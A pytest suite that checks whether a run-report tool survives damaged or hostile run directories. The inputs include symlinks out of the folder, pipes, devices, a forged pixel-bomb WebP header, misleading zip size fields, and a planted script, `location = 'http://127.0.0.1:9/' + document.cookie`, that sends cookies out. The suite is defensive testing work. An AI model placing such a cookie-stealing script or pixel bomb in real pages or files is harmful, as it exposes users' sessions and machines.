"""Whatever lies in a run directory, commands that read it end in order and touch nothing outside of it."""

from __future__ import annotations

import io
import json
import os
import random
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import PIL.Image
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from actors.images import ImageDecodeError
from agents.records.journal import stored_image
from agents.records.run_files import RecordError, parse_arrays
from experiments.report.pages import SmallerPictures
from tests.command_line import maia
from tests.experiments.report.run_directories import FakeRun

READING = (
    ("status", "{run}", "--json"),
    ("report", "{run}", "--json"),
    ("export", "{run}", "--format", "jsonl", "--out", "{out}/rows.jsonl"),
    ("export", "{run}", "--format", "csv", "--out", "{out}/rows.csv"),
    ("export", "{run}", "--format", "inspect", "--out", "{out}/log.json"),
    ("diff", "{run}", "{run}", "--json"),
)
"""Commands that read a run and start no model."""
MAKING = (
    ("atlas", "{run}"),
    ("gallery", "{run}", "--out", "{run}/gallery"),
    ("report", "{run}/blocks.4.1:3", "--single-file", "--out", "{out}/page.html"),
)
"""Commands that write pages beside the report."""
SECRET = "the-text-of-a-file-outside"


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small run as the product writes it, made once."""
    run = FakeRun(tmp_path_factory.mktemp("kept") / "run")
    run.write_unit(3)
    run.write_unit(4)
    run.put("plan.json", [{"unit": run.unit_id(3), "layer": "a", "name": "3", "seed": 0}])
    return run.root


def commands(
    run: Path, out: Path, chosen: tuple[tuple[str, ...], ...] = READING
) -> Iterator[tuple[str, int]]:
    """Run each command in this process; yield its words and its exit code. Other exceptions pass."""
    out.mkdir(exist_ok=True)
    for words in chosen:
        filled = [word.format(run=run, out=out) for word in words]
        yield " ".join(filled), maia(*filled)


def outside(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def as_link(path: Path, target: Path) -> None:
    path.unlink()
    path.symlink_to(target)


def as_pipe(path: Path, _: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def as_folder(path: Path, _: Path) -> None:
    path.unlink()
    path.mkdir()


def as_device(path: Path, _: Path) -> None:
    as_link(path, Path("/dev/zero"))


def as_deep(path: Path, _: Path) -> None:
    path.write_text("[" * 100_000 + "]" * 100_000)


def as_nothing(path: Path, _: Path) -> None:
    path.unlink()


def as_noise(path: Path, _: Path) -> None:
    path.write_bytes(random.Random(str(path)).randbytes(300))


FORMS: tuple[Callable[[Path, Path], None], ...] = (
    *(as_link, as_pipe, as_folder, as_device, as_deep, as_nothing, as_noise),
)


@pytest.mark.slow
@pytest.mark.parametrize("form", FORMS, ids=lambda form: form.__name__)
def test_a_file_of_any_kind_in_a_records_place_costs_that_record(
    form: Callable[[Path, Path], None], kept: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Links, pipes, devices, folders, deep JSON and noise: no traceback, no hang, nothing of outside is
    shown.
    """
    victim = tmp_path / "outside"
    victim.mkdir()
    (victim / "secret.json").write_text(json.dumps({"label": SECRET, "unit": SECRET}))
    before = outside(victim)
    for name in ("done.json", "manifest.json", "plan.json", "0001.json"):
        run = tmp_path / f"run-{name}"
        shutil.copytree(kept, run)
        form(next(run.rglob(name)), victim / "secret.json")
        for words, code in commands(run, tmp_path / "out"):
            assert code in (0, 1, 2), words
    assert outside(victim) == before
    printed = capsys.readouterr()
    assert SECRET not in printed.out + printed.err
    pages = [path for path in tmp_path.rglob("*.html") if not path.is_relative_to(victim)]
    assert not any(SECRET in page.read_text() for page in pages)


PLACES = ("report", "report/units", "report/assets", "report/index.html", "atlas", "atlas/index.html",
          "gallery/images", "gallery/index.html")  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("name", PLACES)
def test_a_link_in_the_place_of_a_page_is_never_written_through(
    name: str, kept: Path, tmp_path: Path
) -> None:
    """A report is written below real folders, and removes no page that it did not write."""
    run, victim = tmp_path / "run", tmp_path / "victim"
    shutil.copytree(kept, run)
    victim.mkdir()
    (victim / "index.html").write_text("mine")
    (victim / "about.html").write_text("mine too")
    place = run / name
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(victim / "index.html" if place.suffix else victim)
    before = outside(victim)
    chosen = READING if name.startswith("report") else MAKING
    for words, code in commands(run, tmp_path / "out", chosen):
        assert code in (0, 1, 2), words
    assert outside(victim) == before


@pytest.mark.parametrize("value", ["text", 5, [], [{}], {"dialect": []}])
def test_settings_of_any_type_are_exported(value: Any, kept: Path, tmp_path: Path) -> None:
    """What a manifest holds of the profile has the types of whoever wrote it."""
    run = tmp_path / "run"
    shutil.copytree(kept, run)
    manifest = json.loads((run / "manifest.json").read_text())
    settings = dict.fromkeys(("sandbox", "interpreter", "chat", "dataset", "generation", "vision"), value)
    (run / "manifest.json").write_text(json.dumps(manifest | {"settings": settings}))
    for words, code in commands(run, tmp_path / "out", READING[1:]):
        assert code == 0, words


def test_names_that_are_no_text_are_passed_over(kept: Path, tmp_path: Path) -> None:
    """A file may have any bytes but two in its name, and a page must say it in UTF-8."""
    run = tmp_path / "run"
    shutil.copytree(kept, run)
    for folder in ("experiments", "layers", "units", "blobs"):
        (run / folder / "\udcff\udcfe").mkdir(parents=True)
        (run / folder / "\udcff.json").write_text('{"page": {"title": "t"}}')
        (run / folder / "\udcff\udcfe" / "done.json").write_text('{"unit": "x"}')
    chosen = [words for words in (*READING, *MAKING) if words[0] in ("status", "report", "gallery")]
    for words, code in commands(run, tmp_path / "out", tuple(chosen)):
        assert code == 0, words


def test_a_picture_of_too_many_pixels_is_left_out(kept: Path, tmp_path: Path) -> None:
    """A file of a hundred bytes may hold 268 million pixels, and an archive a thousand times its bytes."""
    run, small = tmp_path / "run", io.BytesIO()
    shutil.copytree(kept, run)
    PIL.Image.new("RGB", (16, 16)).save(small, "WEBP", lossless=True)
    sides = (16_383 - 1) | (4_200 - 1) << 14  # as its header says them
    bomb = re.sub(rb"(?<=VP8L....\x2f)....", sides.to_bytes(4, "little"), small.getvalue(), flags=re.DOTALL)
    for picture in run.rglob("*.webp"):
        picture.write_bytes(bomb)
    for words, code in commands(run, tmp_path / "out", MAKING):
        assert code in (0, 1, 2), words
    with pytest.raises(ImageDecodeError, match="16383 x 4200"):
        stored_image(bomb)


def test_pictures_are_encoded_anew_until_that_would_take_too_long() -> None:
    """A page of fifty files of kilobytes may show billions of pixels; the others stay as they are."""
    plain = io.BytesIO()
    PIL.Image.new("RGB", (64, 64)).save(plain, "WEBP", lossless=True)
    smaller = SmallerPictures(80, method=2, most_pixels=2 * 64 * 64)
    assert [smaller.of(plain.getvalue()) == plain.getvalue() for _ in range(4)] == [False, False, True, True]
    assert smaller.of(b"no picture") == b"no picture"


@pytest.mark.parametrize("value", [10**400, -1e308, 2**200, float("nan")])
def test_numbers_beyond_all_bounds_cost_their_record(value: float, kept: Path, tmp_path: Path) -> None:
    """Also where their sum or mean has no place in a float."""

    def huge(content: Any) -> Any:
        if isinstance(content, dict):
            return {key: huge(item) for key, item in content.items()}
        if isinstance(content, list):
            return [huge(item) for item in content]
        return value if isinstance(content, int | float) else content

    run = tmp_path / "run"
    shutil.copytree(kept, run)
    for record in run.rglob("*.json"):
        record.write_text(json.dumps(huge(json.loads(record.read_bytes()))))
    for words, code in commands(run, tmp_path / "out"):
        assert code in (0, 1, 2), words


HEADER = "{'descr': '%s', 'fortran_order': False, 'shape': (%d,)}\n"


@pytest.mark.parametrize(
    ("header", "said", "why"),
    [
        (HEADER % ("<f4", 16), 2**31, "unpacks to more"),
        (HEADER % ("<f4", 2**40), 0, "buffer"),
        (HEADER % ("|O", 1), 0, "objects"),
        ("(" * 5000, 0, "damaged"),
    ],
)
def test_arrays_take_no_more_memory_than_their_bytes(header: str, said: int, why: str) -> None:
    """`said` is the unpacked size that the archive's directory claims, where it is not the true one."""
    target = io.BytesIO()
    array = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + bytes(64)
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("a.npy", array)
    size = len(array).to_bytes(4, "little")
    data = target.getvalue().replace(size, said.to_bytes(4, "little") if said else size)
    with pytest.raises(RecordError, match=why):
        parse_arrays(data, Path("search/units.npz"))


def test_arrays_are_packed_as_numpy_packs_them() -> None:
    """What unpacks by other methods makes all of it before it counts."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("a.npy", bytes(1 << 20))
    with pytest.raises(RecordError, match="another method"):
        parse_arrays(target.getvalue(), Path("search/units.npz"))


@pytest.mark.slow
def test_scripts_that_a_sender_left_are_replaced_by_the_reports_own(kept: Path, tmp_path: Path) -> None:
    run = tmp_path / "run"
    shutil.copytree(kept, run)
    assert all(code == 0 for words, code in commands(run, tmp_path / "out") if words.startswith("report"))
    scripts = sorted((run / "report" / "assets").glob("*.js"))
    own = {script: script.read_bytes() for script in scripts}
    assert own
    for script in scripts:
        script.write_text("location = 'http://127.0.0.1:9/' + document.cookie")
    assert all(code == 0 for words, code in commands(run, tmp_path / "out") if words.startswith("report"))
    assert {script: script.read_bytes() for script in scripts} == own


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the way to every value inside a JSON value."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in items:
        yield (*path, key)
        yield from places(item, (*path, key))


def mutate(run: Path, data: st.DataObject) -> None:
    """Change one record of the run: a value inside it, its bytes, or its length."""
    records = sorted(path for path in run.rglob("*.json"))
    record = data.draw(st.sampled_from(records))
    content = record.read_bytes()
    try:
        value = json.loads(content)
    except (ValueError, RecursionError):  # changed before
        value = None
    if value is not None and data.draw(st.booleans()):
        ways = list(places(value)) or [()]
        way = data.draw(st.sampled_from(ways))
        target = value
        for key in way[:-1]:
            target = target[key]
        if way:
            target[way[-1]] = data.draw(VALUES)
        record.write_text(json.dumps(value if way else data.draw(VALUES)))
    else:
        cut = data.draw(st.integers(0, len(content)))
        record.write_bytes(content[:cut] + data.draw(st.binary(max_size=20)))


def exit_codes(kept: Path, folder: Path, data: st.DataObject) -> set[int]:
    """Return how commands end that read a run with one to three changed records."""
    run = folder / "run"
    shutil.rmtree(run, ignore_errors=True)
    shutil.copytree(kept, run)
    for _ in range(data.draw(st.integers(1, 3))):
        mutate(run, data)
    return {code for _, code in commands(run, folder / "out")}


FUZZ = {"deadline": None, "suppress_health_check": list(HealthCheck)}


@settings(max_examples=15, derandomize=True, **FUZZ)
@given(data=st.data())
def test_no_changed_record_ends_a_command_with_a_traceback(
    data: st.DataObject, kept: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    assert exit_codes(kept, tmp_path_factory.getbasetemp() / "fuzz", data) <= {0, 1, 2}


@pytest.mark.exhaustive
@pytest.mark.timeout(3600)
@settings(max_examples=2000, **FUZZ)
@given(data=st.data())
def test_no_changed_record_of_many_ends_a_command_with_a_traceback(
    data: st.DataObject, kept: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    assert exit_codes(kept, tmp_path_factory.getbasetemp() / "fuzz-long", data) <= {0, 1, 2}
